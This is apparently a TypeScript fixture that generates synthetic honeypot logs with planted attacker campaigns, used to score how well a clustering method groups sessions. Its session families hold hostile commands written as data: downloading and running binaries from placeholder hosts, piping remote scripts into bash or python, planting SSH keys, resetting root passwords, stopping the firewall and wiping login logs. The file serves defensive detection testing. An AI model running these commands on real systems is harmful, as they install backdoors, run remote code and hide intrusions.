/**
 * Logs with planted campaigns: twelve families of attackers, each with variants, who share machines, clients, passwords, a
 * place for files and many of their commands; and sessions that belong to nobody.
 */
import { type LogEvent } from "./event-logs.ts";
import { type Random, seededRandom } from "./random.ts";

export interface PlantedSession {
  readonly session: string;
  /** undefined = of no family. */
  readonly family: string | undefined;
}

export interface Planted {
  /** By day. */
  readonly logs: readonly (readonly LogEvent[])[];
  readonly sessions: readonly PlantedSession[];
}

/** What one session does behind its login. */
interface Play {
  readonly commands: readonly string[];
  readonly files?: readonly { readonly url?: string; readonly filename?: string; readonly shasum: string }[];
  readonly offers?: string;
  readonly protocol?: "telnet";
}

const DAY_S = 86_400;
const PRELUDE = ["enable", "system", "shell", "sh"];
const LOOK_AROUND = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m", "w", "crontab -l", "lscpu | grep Model", "nproc", "ls -la"];
const ARCHITECTURES = ["arm7", "mips", "x86", "mpsl", "arm5", "sh4"];
/** Serves whoever puts a file there, and is on nobody's list of such places. */
const PASTE = "paste.bad.test";

const sha = (text: string) => new Bun.CryptoHasher("sha256").update(text).digest("hex");
const keyOf = (text: string) => `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ${Buffer.from(sha(text).repeat(6)).toString("base64").slice(0, 342)}`;
const hostOf = (random: Random, net: number) => `203.0.${net}.${1 + random.int(6)}`;
const word = (random: Random) => random.hex(12).replace(/[0-9]/g, digit => "ghijklmnop"[Number(digit)]!) + random.int(90);
const some = (random: Random, list: readonly string[], n: number) => random.shuffle([...list]).slice(0, n);
const fetched = (url: string, content: string) => ({ url, shasum: sha(content) });

/** The families; each call is one session, its variant drawn anew. */
const FAMILIES: Readonly<Record<string, (random: Random) => Play>> = {
  plants: random => ({
    commands: [
      "cd ~; chattr -ia .ssh; lockr -ia .ssh",
      `cd ~ && rm -rf .ssh && mkdir .ssh && echo "${keyOf("plants")} ${random.pick(["heron", "heron-key"])}">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~`,
      `echo "root:${word(random)}"|chpasswd|bash`,
      ...some(random, LOOK_AROUND, 3),
    ],
  }),
  bins: random => {
    const [host, arch] = [hostOf(random, 10), random.pick(ARCHITECTURES)];
    const url = `http://${host}/bins/otter.${arch}`;
    return {
      protocol: "telnet",
      commands: [...PRELUDE, "cat /proc/mounts; /bin/busybox ABCDE", `cd /tmp; wget ${url} -O - > otter; chmod 777 otter; ./otter telnet.${arch}; /bin/busybox ABCDE`],
      files: [fetched(url, `otter ${arch}`)],
    };
  },
  scripts: random => {
    const url = `http://${hostOf(random, 20)}/${random.pick(["bins.sh", "x.sh", "a"])}`;
    const name = random.pick(["bins.sh", "x.sh", "a"]);
    return {
      protocol: "telnet",
      commands: [...PRELUDE, `cd /var/run || cd /mnt || cd /root; (wget -q ${url} || curl -O ${url} || tftp -g -r ${name} ${hostOf(random, 20)}); sh ${name}; rm -rf ${name}; history -c`],
      files: random.chance(0.7) ? [fetched(url, "badger script")] : [],
    };
  },
  uploads: random => ({
    commands: [...some(random, LOOK_AROUND, 2), `chmod +x ./.${random.hex(20)}/sshd;nohup ./.${random.hex(20)}/sshd ${hostOf(random, 31)} ${hostOf(random, 32)} &`],
    files: [{ filename: "sshd", shasum: sha(random.pick(["lynx 1", "lynx 2"])) }],
  }),
  firewall: random => {
    const url = `http://${hostOf(random, 40)}:${2000 + random.int(4000)}/${random.pick(["weasel64", "weasel32"])}`;
    return {
      commands: ["service iptables stop", "cd /tmp", `wget ${url}`, "chmod 0777 /tmp/weasel", "nohup /tmp/weasel > /dev/null 2>&1 &", "rm -f /var/log/wtmp"],
      files: random.chance(0.5) ? [fetched(url, url.slice(-2))] : [],
    };
  },
  miner: random => ({
    commands: [...some(random, LOOK_AROUND, 3), `curl -s -L https://raw.githubusercontent.com/marten/setup/master/setup_marten.sh | bash -s ${random.hex(40)}`],
    files: [fetched("https://raw.githubusercontent.com/marten/setup/master/setup_marten.sh", "marten")],
  }),
  loader: random => ({
    commands: [...some(random, LOOK_AROUND, 2), `wget -qO- https://raw.githubusercontent.com/polecat/x/main/polecat.py | python3 - --id ${random.int(1e9)}`],
    files: [fetched("https://raw.githubusercontent.com/polecat/x/main/polecat.py", "polecat")],
  }),
  router: random => ({
    commands: ["/ip cloud print", "ifconfig", "uname -a", "cat /proc/cpuinfo", "ps | grep '[Mm]iner'", "ps -ef | grep '[Mm]iner'", "ls -la ~/.local/share/TelegramDesktop/tdata", `locate ${random.hex(16)}.smsd`, "echo Hi | cat -n"],
  }),
  offers: random =>
    random.chance(0.5)
      ? { commands: [], offers: keyOf("offers") }
      : { commands: [`mkdir -p ~/.ssh && echo '${keyOf("offers")} stoat' >> ~/.ssh/authorized_keys`, ...some(random, LOOK_AROUND, 1)] },
  probe: random => ({
    commands: ["uname -s -v -n -r -m", "export PATH=/usr/local/sbin:/usr/bin:$PATH; uname=$(uname -s -v -n -m 2>/dev/null); arch=$(uname -m); cpus=$(nproc); echo \"UNAME:$uname\" \"ARCH:$arch\"", ...(random.chance(0.3) ? ["cat /proc/uptime 2 > /dev/null | cut -d. -f1"] : [])],
  }),
  password: random => ({
    commands: [`echo -e "${word(random)}\\n${word(random)}\\n${word(random)}"|passwd|bash`, `echo "321" > /var/tmp/.var03522123`, "rm -rf /var/tmp/.var03522123", "cat /var/tmp/.var03522123 | head -n 1", ...some(random, LOOK_AROUND, 3)],
  }),
  // Most of all sessions: what it leaves is in more than a twentieth of them, and is its own all the same.
  flood: random => ({
    commands: ['echo -e "\\x6F\\x6B"', `cd /dev/shm; curl -o ${word(random)} http://${hostOf(random, 50)}/ferret; chmod +x *; ./ferret ${random.int(1e6)}`],
    files: [fetched(`http://${hostOf(random, 50)}/ferret`, "ferret")],
  }),
};

/** Sessions of a family, of all that are planted. */
const SHARES: Readonly<Record<string, number>> = { flood: 30 };
const NOBODY = ["uname -a", "ls", "whoami", "cat /proc/cpuinfo", "w", "id; uname -a", "free -m", "exit", "help", "uname -a; nproc", "ps aux", "top"];

/**
 * Plant sessions of all families over some days; the same for the same seed.
 *
 * Families use the same machines, clients and passwords. Three in ten sessions of most also fetch from one place that all of
 * them use.
 */
export function plantCampaigns(seed: string, sessions: number, days: number): Planted {
  const random = seededRandom(seed);
  const names = Object.keys(FAMILIES);
  const weights = names.map(name => SHARES[name] ?? 5);
  const logs: LogEvent[][] = Array.from({ length: days }, () => []);
  const planted: PlantedSession[] = [];
  for (let i = 0; i < sessions; i++) {
    const session = sha(`${seed} ${i}`).slice(0, 12);
    const family = random.chance(0.12) ? undefined : names[random.weighted(weights)]!;
    const play = family === undefined ? { commands: some(random, NOBODY, random.between(1, 2)) } : FAMILIES[family]!(random);
    const day = random.int(days);
    logs[day]!.push(...toEvents(withPaste(play, family, random), session, day * DAY_S - DAY_S / 2 + random.int(DAY_S - 100), random));
    planted.push({ session, family });
  }
  return { logs, sessions: planted };
}

/** Fetch something from the place that everybody uses, beside what the family does. */
function withPaste(play: Play, family: string | undefined, random: Random): Play {
  if (play.commands.length === 0 || !random.chance(0.3)) return play;
  const url = `http://${PASTE}/${random.hex(6)}`;
  return { ...play, files: [...(play.files ?? []), fetched(url, `${family} ${random.hex(6)}`)] };
}

function toEvents({ commands, files = [], offers, protocol }: Play, session: string, start: number, random: Random): LogEvent[] {
  const common = { session, sensor: random.pick(["a", "b", "c"]), src_ip: `198.51.100.${1 + random.int(60)}`, protocol: protocol ?? "ssh" };
  const events: LogEvent[] = [];
  const add = (eventid: string, rest: object) => events.push({ eventid, at: start + events.length, ...common, ...rest });
  add("session.connect", { dst_port: 2222 });
  if (protocol === undefined) {
    add("client.version", { version: "SSH-2.0-Go" });
    add("client.kex", { hassh: random.pick(["0a07365cc01fa9fc82608ba4019af499", "51cba57125523ce4b9db67714a90bf6e"]) });
  }
  if (offers !== undefined) add("client.fingerprint", { username: "root", key: offers, fingerprint: "00:11", type: "ssh-rsa" });
  add("login.success", { username: "root", password: random.pick(["root", "123456", "admin"]) });
  for (const input of commands) add("command.input", { input });
  for (const { filename, ...file } of files) {
    if (filename === undefined) add("session.file_download", { ...file, outfile: `dl/${file.shasum}` });
    else add("session.file_upload", { ...file, filename });
  }
  add("session.closed", { duration: 9 });
  return events;
}

/** Of all pairs of sessions: the share of those put together that belong together, and of those that belong that were put. */
export function judgePairs(planted: readonly PlantedSession[], groupOf: (session: string) => number | undefined) {
  const pairs = (n: number) => (n * (n - 1)) / 2;
  const sum = (counts: Iterable<number>) => [...counts].reduce((all, n) => all + pairs(n), 0);
  const count = (keys: readonly (string | undefined)[]) => {
    const counts = new Map<string, number>();
    for (const key of keys) if (key !== undefined) counts.set(key, (counts.get(key) ?? 0) + 1);
    return counts.values();
  };
  const group = planted.map(({ session }) => groupOf(session));
  const both = sum(count(planted.map(({ family }, i) => (family === undefined || group[i] === undefined ? undefined : `${family} ${group[i]}`))));
  const found = sum(count(group.map(one => (one === undefined ? undefined : String(one)))));
  const wanted = sum(count(planted.map(({ family }) => family)));
  return { precision: both / found, recall: both / wanted };
}
